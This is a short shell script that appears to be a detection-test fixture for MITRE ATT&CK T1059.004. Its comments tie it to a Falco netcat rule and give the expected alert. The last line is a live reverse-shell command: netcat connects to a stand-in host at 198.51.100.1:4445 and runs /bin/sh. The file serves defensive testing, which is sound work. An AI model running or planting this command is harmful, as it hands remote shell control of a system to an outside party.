#!/bin/sh
# title: Reverse shell with netcat -e
# technique: T1059.004 Command and Scripting Interpreter: Unix Shell
# source: https://attack.mitre.org/techniques/T1059/004/ ; Falco "Netcat Remote Code Execution in Container"
# expect: Netcat or socat executing a program
# peer: 198.51.100.1:4445
/bin/nc 198.51.100.1 4445 -e /bin/sh
